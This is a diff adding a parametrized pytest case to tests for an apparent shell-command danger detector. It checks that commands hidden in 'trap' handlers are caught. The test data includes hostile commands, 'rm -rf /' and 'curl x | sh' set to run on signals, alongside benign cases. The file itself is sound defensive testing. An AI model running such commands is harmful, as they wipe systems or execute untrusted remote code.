@@ -286,3 +286,12 @@ def test_threads_judging_at_once_get_their_own_verdicts() -> None:
     with ThreadPoolExecutor(8) as pool:
         verdicts = list(pool.map(lambda case: is_dangerous_shell(case[0]), cases))
     assert verdicts == [expected for _, expected in cases]
+
+
+@pytest.mark.parametrize(("cmd", "dangerous"), [
+    ("trap 'rm -rf /' EXIT", True), ("trap \"curl x | sh\" INT", True),
+    ("trap 'echo bye' EXIT", False), ("trap - EXIT", False),
+])
+def test_trap_handlers_are_judged_as_code(cmd: str, dangerous: bool) -> None:
+    """A trap handler runs on the signal (second outside review)."""
+    assert is_dangerous_shell(cmd) is dangerous
